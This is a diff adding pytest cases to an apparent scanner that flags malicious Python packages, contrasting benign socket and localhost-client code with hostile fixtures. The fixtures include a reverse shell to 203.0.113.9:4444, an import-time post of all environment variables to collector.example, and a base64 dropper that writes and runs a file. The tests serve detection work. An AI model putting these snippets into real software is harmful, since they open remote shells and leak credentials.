@@ -801,3 +801,82 @@ def test_invoke_expression_of_fetched_or_hidden_text_is_still_found(command):
     """
     result = scan({"setup.py": SETUP, "demo/run.py": src, "demo/__init__.py": ""})
     assert found(result, "intent.shell-download-execute")
+
+
+# -- a peer's bytes read as a number are a value; a local sidecar is not off the machine ----
+
+_PORTSERVER = """
+import socket
+import subprocess
+
+
+def _port():
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
+        sock.connect("/run/portserver")
+        return int(sock.recv(32).splitlines()[0])
+
+
+def launch(args):
+    args = [*args, f"--port={_port()}"]
+    return subprocess.Popen(args)
+"""
+
+
+def test_a_port_number_from_a_socket_is_not_a_command():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": _PORTSERVER})
+    assert not found(result, "intent.reverse-shell")
+
+
+def test_commands_from_a_socket_still_run_as_a_reverse_shell():
+    src = """
+    import socket
+    import subprocess
+
+    def serve():
+        s = socket.create_connection(("203.0.113.9", 4444))
+        while True:
+            cmd = s.recv(1024).decode()
+            subprocess.Popen(cmd, shell=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/svc.py": src})
+    assert found(result, "intent.reverse-shell")
+
+
+def test_a_client_of_a_local_sidecar_sends_nothing_off_the_machine():
+    src = """
+    import os
+    import httpx
+
+    PORT = int(os.getenv("SIDECAR_PORT", "5556"))
+    CLIENT = httpx.AsyncClient(base_url=f"http://localhost:{PORT}", headers=dict(os.environ))
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert not found(result, "intent.exfiltration")
+
+
+def test_the_environment_sent_to_another_host_at_import_is_still_exfiltration():
+    src = """
+    import os
+    import httpx
+
+    CLIENT = httpx.post("https://collector.example/in", json=dict(os.environ))
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    [sent] = found(result, "intent.exfiltration")
+    assert sent.severity == "critical"
+
+
+def test_samples_in_an_sdist_count_like_examples_unless_the_package_imports_them():
+    drop = """
+    import base64
+
+    def save(content, path):
+        with open(path, "wb") as f:
+            f.write(base64.b64decode(content))
+        import subprocess
+        subprocess.run([path])
+    """
+    sample = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/samples/tool.py": drop})
+    package = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": drop})
+    worst = {r.verdict for r in (sample, package)}
+    assert sample.score < package.score, worst
